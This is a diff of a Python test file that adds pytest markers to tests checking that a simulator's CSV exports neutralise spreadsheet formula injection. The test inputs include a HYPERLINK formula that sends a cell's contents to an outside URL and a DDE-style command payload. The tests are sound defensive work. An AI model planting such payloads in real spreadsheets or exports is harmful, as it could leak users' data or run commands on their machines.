@@ -21,16 +21,21 @@ from sim.traffic.traces.read import read_trace
 FORMULA = '=HYPERLINK("http://x/"&A1)'
 
 
+@pytest.mark.promise("Cells of CSV files that a spreadsheet would run as a formula get a quote before them")
 @pytest.mark.parametrize("text", [FORMULA, "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1", "-cmd|x!A0"])
 def test_formulas_become_text(text: str) -> None:
     assert text_cell(text) == f"'{text}"
 
 
+@pytest.mark.promise("(numbers such as `-1` stay)")
 @pytest.mark.parametrize("text", ["-1", "-1.5e-9", "1", "a=b", "adapter-1", "", "’=1"])
 def test_numbers_and_other_text_stay(text: str) -> None:
     assert text_cell(text) == text
 
 
+@pytest.mark.promise(
+    "Nothing is injected.", "Cells of CSV files that a spreadsheet would run as a formula get a quote before them"
+)
 def test_points_have_no_formulas() -> None:
     point = Point({FORMULA: FORMULA}, {FORMULA: Metric(-1.0, unit=FORMULA)})
     rows = list(csv.reader(io.StringIO(points_csv([point]))))
@@ -38,6 +43,7 @@ def test_points_have_no_formulas() -> None:
     assert rows[1][2] == "-1.0"
 
 
+@pytest.mark.promise("So does the name of an adapter in a converted trace; Parquet keeps it as it is.")
 def test_converted_traces_have_no_formulas_and_read_back(tmp_path: Path) -> None:
     lines = [
         ["timestamp_s", "adapter_id", "input_tokens", "output_tokens"],
